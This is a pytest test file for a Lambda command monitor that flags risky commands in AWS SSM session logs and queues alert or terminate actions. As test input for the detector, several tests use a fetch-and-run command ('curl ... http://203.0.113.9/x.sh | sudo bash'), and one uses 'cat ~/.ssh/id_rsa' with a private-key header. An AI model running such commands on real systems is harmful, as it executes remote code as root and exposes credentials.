"""The command watch through functions/command_monitor/app.py, against the moto server.

Payloads are built here the way CloudWatch Logs builds them (gzip + base64 of the subscription JSON).
"""

from __future__ import annotations

import copy
from collections.abc import Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import pytest

from bench._dynamo_units import item_size
from functions.command_monitor import app
from functions.session_events import app as events_app
from ssm_warden.audit import read_audit
from ssm_warden.clients import aws_client, reset_clients
from ssm_warden.clock import clock_set_to
from ssm_warden.config import reset_settings
from ssm_warden.ledger.dynamo import from_item
from ssm_warden.ledger.keys import session_key, watch_key
from ssm_warden.models.actions import ActionKind, ActionRequest, Mode
from ssm_warden.models.audit import Decision
from ssm_warden.monitor.judging import batch_judge
from ssm_warden.monitor.watch_state import SEEN_BATCHES, SESSION_FLUSH_INTERVAL, STORED_PENDING_CHARS
from ssm_warden_local.resources import LocalStack
from tests.conftest import ACCOUNT, REGION, LambdaContext, load_event
from tests.unit.logs import builders
from tests.unit.logs.builders import SESSION_ID, log_event, payload, streamed

PROMPT = "[ec2-user@ip-10-0-0-1 ~]$ "
RISKY = "curl -fsSL http://203.0.113.9/x.sh | sudo bash"


@pytest.fixture(autouse=True)
def _fresh_judges() -> None:
    batch_judge.cache_clear()
    Current.target = builders.TARGET_ID


def invoke(event: dict[str, Any]) -> dict[str, Any]:
    result: dict[str, Any] = app.lambda_handler(event, LambdaContext())
    return result


@dataclass
class Arrival:
    """The clock the command monitor reads when a batch arrives (tests move it)."""

    at: datetime


@pytest.fixture
def arrival() -> Iterator[Arrival]:
    clock = Arrival(datetime(2024, 1, 4, 5, 46, 0, tzinfo=UTC))
    with clock_set_to(lambda: clock.at):
        yield clock


class Current:
    target = builders.TARGET_ID  # the target of the last session started (its log events name it)


def session_payload(*batches: list[str], **kwargs: Any) -> dict[str, Any]:
    """The session's streamed events, naming the target its StartSession recorded."""
    return builders.session_payload(*batches, target=kwargs.pop("target", Current.target), **kwargs)


def start_session(tags: dict[str, str], session_id: str = SESSION_ID) -> str:
    """A StartSession event for a target with these tags, through the ledger's own function."""
    ec2 = aws_client("ec2")
    instance = ec2.run_instances(ImageId="ami-12c6146b", MinCount=1, MaxCount=1)["Instances"][0]["InstanceId"]
    ec2.create_tags(Resources=[instance], Tags=[{"Key": k, "Value": v} for k, v in tags.items()])
    event = copy.deepcopy(load_event("start_session_shell.json"))
    event["detail"]["requestParameters"]["target"] = instance
    event["detail"]["responseElements"]["sessionId"] = session_id
    assert events_app.lambda_handler(event, LambdaContext())["status"] == "applied"
    Current.target = instance
    return str(instance)


def queued(stack: LocalStack) -> list[ActionRequest]:
    """Every action request waiting on the action queue (received and deleted)."""
    sqs = aws_client("sqs")
    out: list[ActionRequest] = []
    while True:
        response = sqs.receive_message(
            QueueUrl=stack.queues["ActionQueue"], MaxNumberOfMessages=10, WaitTimeSeconds=0
        )
        messages = response.get("Messages", [])
        if not messages:
            return out
        for message in messages:
            out.append(ActionRequest.model_validate_json(message["Body"]))
            sqs.delete_message(QueueUrl=stack.queues["ActionQueue"], ReceiptHandle=message["ReceiptHandle"])


def item(session_id: str = SESSION_ID) -> dict[str, Any]:
    response = aws_client("dynamodb").get_item(
        TableName=LocalStackNames.sessions, Key={"pk": {"S": session_key(ACCOUNT, REGION, session_id)}}
    )
    return from_item(response["Item"]) if "Item" in response else {}


def watch(session_id: str = SESSION_ID) -> dict[str, Any]:
    """The stream's command-watch item."""
    response = aws_client("dynamodb").get_item(
        TableName=LocalStackNames.sessions, Key={"pk": {"S": watch_key(ACCOUNT, REGION, session_id)}}
    )
    return from_item(response["Item"]) if "Item" in response else {}


class LocalStackNames:
    sessions = ""


@pytest.fixture(autouse=True)
def _names(request: pytest.FixtureRequest) -> None:
    if "stack" in request.fixturenames:
        LocalStackNames.sessions = request.getfixturevalue("stack").tables["SessionsTable"]


def test_a_risky_command_in_a_prod_session_queues_one_action_with_the_finding(
    stack: LocalStack, capsys: pytest.CaptureFixture[str]
) -> None:
    # Given a session on a prod host, known to the ledger
    start_session({"Environment": "prod"})
    # When its log stream shows a download piped into a root shell among ordinary commands
    result = invoke(
        session_payload(
            ["sh-4.2$ sh-4.2$ bash", f"{PROMPT}ls -la", "total 0"],
            [f"{PROMPT}{RISKY}", "bash: line 1: 203.0.113.9: Connection refused"],
        )
    )
    # Then exactly one action is queued: the prod policy terminates on this finding
    actions = queued(stack)
    assert len(actions) == 1
    action = actions[0]
    assert action.kind is ActionKind.TERMINATE
    assert action.mode is Mode.ENFORCE
    assert action.scope == "prod"
    assert action.session is not None and action.session.session_id == SESSION_ID
    assert action.session.target_tags == {"Environment": "prod"}
    assert [f.command for f in action.findings] == [RISKY]
    assert result["commands"] == 3
    # And the decision is in the audit trail, and the counts are on the ledger item
    assert any(r.decision is Decision.FINDING for r in read_audit(SESSION_ID))
    assert item()["commands_seen"] == 3
    assert item()["findings_seen"] >= 1
    # And the metrics say so: commands seen, findings by severity
    metrics = capsys.readouterr().out
    assert '"CommandsSeen":[3.0]' in metrics
    assert f'"severity":"{action.severity.value}","Findings":[1.0]' in metrics


def test_a_redelivered_batch_queues_nothing_more(stack: LocalStack) -> None:
    # Given a batch with a risky command, processed once
    start_session({"Environment": "prod"})
    batch = session_payload([f"{PROMPT}{RISKY}"], [f"{PROMPT}id", "uid=1000"])
    invoke(batch)
    assert len(queued(stack)) == 1
    audit_before = len(read_audit(SESSION_ID))
    # When CloudWatch Logs delivers the same batch again
    result = invoke(batch)
    # Then it is recognised, nothing is queued and nothing is counted twice
    assert result["status"] == "duplicate"
    assert queued(stack) == []
    assert len(read_audit(SESSION_ID)) == audit_before
    assert item()["commands_seen"] == 2


def test_a_command_split_across_two_invocations_is_judged_once(stack: LocalStack) -> None:
    start_session({"Environment": "prod"})
    # Given a first batch that ends in the middle of a command (a trailing backslash)
    first = invoke(
        session_payload([f"{PROMPT}ls", "a.txt", f"{PROMPT}curl -fsSL http://203.0.113.9/x.sh \\"])
    )
    assert first["commands"] == 1
    assert queued(stack) == []
    # When the next batch brings the rest of it
    second = invoke(session_payload(["> | sudo bash", "bash: connection refused", f"{PROMPT}id"], start=1))
    # Then the whole command is judged once: one action, its finding quoting the joined command
    actions = queued(stack)
    assert len(actions) == 1
    assert actions[0].findings[0].command == RISKY
    assert second["commands"] == 2
    assert watch()["c"] == 3  # the session item shows it at its next flush


def test_last_output_and_counts_reach_the_session_item_on_the_first_batch_then_every_flush_interval(
    stack: LocalStack, arrival: Arrival
) -> None:
    start_session({"Environment": "dev"})

    def last_output() -> Any:
        return item().get("last_output_at")

    # Given a batch that arrives at 10:00:00 (its events say 2024: the writer's clock, not ours)
    arrival.at = datetime(2026, 11, 28, 10, 0, 0, tzinfo=UTC)
    invoke(session_payload([f"{PROMPT}ls"], ["out"], ["out"], seconds=0))
    first = last_output()
    assert first == "2026-11-28T10:00:00Z"
    assert item()["commands_seen"] == 1
    # When more output and commands arrive 30 s later, then after the flush interval
    arrival.at += timedelta(seconds=30)
    invoke(session_payload([f"{PROMPT}id"], start=3, seconds=32))
    # Then the session item is not written (the watch item alone holds the exact time and counts)
    assert last_output() == first and item()["commands_seen"] == 1
    assert watch()["out"] == "2026-11-28T10:00:30Z" and watch()["c"] == 2
    arrival.at += SESSION_FLUSH_INTERVAL
    invoke(session_payload(["more"], start=4, seconds=92))
    # and once the flush interval has passed, it is brought up to date, in the same batch
    assert last_output() == "2026-11-28T10:10:30Z"
    assert item()["commands_seen"] == 2
    assert item()["watch_batches"] == watch()["n"] == 3


def test_the_watch_item_is_one_small_write_per_batch(stack: LocalStack, arrival: Arrival) -> None:
    start_session({"Environment": "prod"})
    arrival.at = datetime(2026, 11, 28, 10, 0, 0, tzinfo=UTC)
    invoke(session_payload([f"{PROMPT}ls", "a.txt"], ["b.txt"], seconds=0))
    writes: list[str] = []

    def count(params: dict[str, Any], model: Any, **_: Any) -> None:
        if params.get("TableName") == LocalStackNames.sessions:
            writes.append(model.name)

    client = aws_client("dynamodb")
    client.meta.events.register("provide-client-params.dynamodb", count)
    try:
        # Given a session with a learned prompt, a long pending command and many batches seen
        for k in range(1, 40):
            arrival.at += timedelta(seconds=30)
            lines = [f"{PROMPT}tail -n 5 /var/log/app-{k}.log", "ok", "GET /health 200"]
            invoke(session_payload(lines, start=k * 3, seconds=30 * k))
    finally:
        client.meta.events.unregister("provide-client-params.dynamodb", count)
    # Then each batch wrote the watch item once, and the session item only on its flushes
    assert writes.count("PutItem") == 39
    assert writes.count("UpdateItem") == 39 * 30 // int(SESSION_FLUSH_INTERVAL.total_seconds())
    # And the watch item stays under 1 KB (one write unit)
    raw = client.get_item(
        TableName=LocalStackNames.sessions, Key={"pk": {"S": watch_key(ACCOUNT, REGION, SESSION_ID)}}
    )["Item"]
    assert item_size(raw) < 1024, item_size(raw)
    assert len(watch()["s"].value) == 6 * SEEN_BATCHES


def test_a_long_command_being_typed_is_judged_rather_than_stored_whole(
    stack: LocalStack, arrival: Arrival
) -> None:
    start_session({"Environment": "prod"})
    # Given a batch that ends inside a long multi-line command (its last line continues it)
    body = [f"  --header 'X-Trace-{k}: {'a' * 40}' \\" for k in range(30)]
    invoke(session_payload([f"{PROMPT}{RISKY} \\", *body]))
    # Then the command is judged now (a risky first line is not held back to the next batch)
    assert len(queued(stack)) == 1
    # and what is stored of it stays small
    assert len(watch()["t"]) < 2 * STORED_PENDING_CHARS


def test_malformed_records_are_reported_and_the_rest_of_the_batch_is_processed(
    stack: LocalStack, capsys: pytest.CaptureFixture[str], caplog: pytest.LogCaptureFixture
) -> None:
    start_session({"Environment": "prod"})
    # Given a batch with broken events between good ones
    event = payload(
        [
            log_event(0, streamed([f"{PROMPT}id"], target=Current.target)),
            log_event(1, '{"sessionData": ["cut short'),
            {"id": "not-a-number", "timestamp": 0, "message": "x"},
            log_event(2, streamed([f"{PROMPT}{RISKY}"], target=Current.target)),
        ]
    )
    # When it is handled
    result = invoke(event)
    # Then the broken records are reported (count, error log with where, metric) and skipped,
    # and the good ones are judged: the risky command still leads to its action
    assert result["malformed"] == 2
    assert len(queued(stack)) == 1
    errors = [r for r in caplog.records if r.getMessage() == "malformed session-log record skipped"]
    assert [getattr(r, "where", "") for r in errors] == [
        "logEvents[1] id=37000000000000000000000000000000000000000000000000000001",
        "logEvents[2] id=not-a-number",
    ]
    assert '"MalformedRecords":[2.0]' in capsys.readouterr().out


def test_a_payload_that_cannot_be_read_is_rejected_not_retried(stack: LocalStack) -> None:
    result = invoke({"awslogs": {"data": "%%% not base64 %%%"}})
    assert result["status"] == "rejected"
    assert result["malformed"] == 1


def test_control_messages_are_acknowledged(stack: LocalStack) -> None:
    assert invoke(payload([], message_type="CONTROL_MESSAGE", stream=""))["status"] == "control"


def test_a_session_unknown_to_the_ledger_is_judged_but_only_alerted_on_as_claimed(
    stack: LocalStack, caplog: pytest.LogCaptureFixture
) -> None:
    # Given log events of a session whose StartSession event has not arrived
    result = invoke(session_payload([f"sh-4.2$ sh-4.2$ {RISKY}"]))
    # Then it is judged, but what it leads to is an alert that shows who the log claims to be, as
    # claimed: not a termination, and not about a session of the ledger (no thread, no button)
    assert result["known_session"] is False
    assert result["standing"] == "unverified"
    (action,) = queued(stack)
    assert action.kind is ActionKind.ALERT
    assert action.session is not None and action.session.session_id == "-"
    assert action.claimed is not None
    assert action.claimed.session_id == SESSION_ID
    assert action.claimed.target_id == "i-0123456789abcdef0"
    assert action.claimed.principal_arn == "arn:aws:sts::123456789012:assumed-role/Admin/alice"
    assert action.title.startswith("Unverified session log")
    assert any("session unknown to the ledger" in r.getMessage() for r in caplog.records)
    # And its extraction state is kept for the next batch in its own item, which expires, and no
    # bare session item is made for it (the ledger fills that in when CloudTrail confirms it)
    assert watch()["n"] == 1
    assert watch()["expires_at"] > 0
    assert item() == {}


def test_once_cloudtrail_confirms_the_session_later_events_are_judged_normally(stack: LocalStack) -> None:
    # Given an unverified first batch (StartSession not arrived yet)
    invoke(session_payload(["sh-4.2$ sh-4.2$ id"]))
    assert queued(stack) == []
    assert watch()["u"] is True  # its terminal state is the unverified writer's
    # When the StartSession arrives and the session then runs a risky command
    target = start_session({"Environment": "prod"})
    invoke(session_payload([f"{PROMPT}{RISKY}"], start=1, target=target))
    # Then it is judged as the session's own: the prod policy terminates
    (action,) = queued(stack)
    assert action.kind is ActionKind.TERMINATE
    assert action.claimed is None
    assert action.session is not None and action.session.session_id == SESSION_ID
    # And what the unverified events left in the terminal state was dropped on confirmation
    assert "u" not in watch()


def test_a_failure_to_queue_raises_and_the_retry_delivers_the_action(
    stack: LocalStack, monkeypatch: pytest.MonkeyPatch
) -> None:
    start_session({"Environment": "prod"})
    batch = session_payload([f"{PROMPT}{RISKY}"])
    # Given an action queue that cannot be reached
    monkeypatch.setenv("ACTIONS_QUEUE_URL", stack.queues["ActionQueue"] + "-missing")
    reset_settings()
    # When the batch is handled, the invocation fails (Lambda will retry it)
    with pytest.raises(Exception):  # noqa: B017 (the SDK's error, whatever its class)
        invoke(batch)
    assert watch() == {}
    # And when the retry finds the queue again, the action is delivered once
    monkeypatch.setenv("ACTIONS_QUEUE_URL", stack.queues["ActionQueue"])
    reset_settings()
    reset_clients()
    assert invoke(batch)["actions"] == 1
    assert len(queued(stack)) == 1


def test_force_monitor_mode_turns_terminations_into_would_terminate(
    stack: LocalStack, monkeypatch: pytest.MonkeyPatch
) -> None:
    monkeypatch.setenv("FORCE_MONITOR_MODE", "true")
    reset_settings()
    start_session({"Environment": "prod"})
    invoke(session_payload([f"{PROMPT}{RISKY}"]))
    (action,) = queued(stack)
    assert action.would_terminate


def test_secrets_shown_on_screen_are_judged_by_the_output_rules(stack: LocalStack) -> None:
    start_session({"Environment": "prod"})
    key_line = "-----BEGIN RSA PRIVATE KEY-----"
    expected = {f.rule for f in batch_judge(("default",)).detector.judge_output(key_line)}
    assert expected, "the output rules flag a private key block"
    # Given a private key printed by a command, among ordinary output
    invoke(session_payload([f"{PROMPT}cat ~/.ssh/id_rsa", key_line, "MIIEowIBAAKCAQEA"], ["ls", "x"]))
    # Then an action carries the output rules' finding, quoting the line shown on screen
    on_screen = [f for a in queued(stack) for f in a.findings if f.command == key_line]
    assert {f.rule for f in on_screen} == expected


def test_a_session_item_with_a_command_watch_map_from_before_the_upgrade_carries_on(
    stack: LocalStack,
) -> None:
    from ssm_warden.ledger.dynamo import to_attrs
    from ssm_warden.logs.payload import open_subscription
    from ssm_warden.transcript.extract import Extractor

    start_session({"Environment": "prod"})
    # Given a session item written by the previous version: its command_watch map holds a command
    # still being typed (a trailing backslash), the batch that brought it and 4 commands counted
    first = session_payload([f"{PROMPT}ls", "a.txt", f"{PROMPT}curl -fsSL http://203.0.113.9/x.sh \\"])
    lines, _ = open_subscription(first).event_lines()
    extractor = Extractor()
    extractor.feed_events(lines.event_ids, lines.starts, lines.lines)
    legacy = {**extractor.state.model_dump(mode="json"), "n": 5, "seen": [lines.fingerprint()]}
    aws_client("dynamodb").update_item(
        TableName=LocalStackNames.sessions,
        Key={"pk": {"S": session_key(ACCOUNT, REGION, SESSION_ID)}},
        UpdateExpression="SET command_watch = :w, commands_seen = :c",
        ExpressionAttributeValues=to_attrs({":w": legacy, ":c": 4}),
    )
    # When the old batch is delivered again, it is recognised as done
    assert invoke(first)["status"] == "duplicate"
    assert watch() == {}
    # And when the next batch brings the rest of the command, it is judged whole, once
    second = invoke(session_payload(["> | sudo bash", "bash: connection refused", f"{PROMPT}id"], start=1))
    (action,) = queued(stack)
    assert action.findings[0].command == RISKY
    # Then the state lives on in the watch item, counted on from the map, and the map is gone
    assert second["commands"] == 2
    assert watch()["n"] == 6 and watch()["c"] == 6
    assert "command_watch" not in item()
    assert item()["commands_seen"] == 6
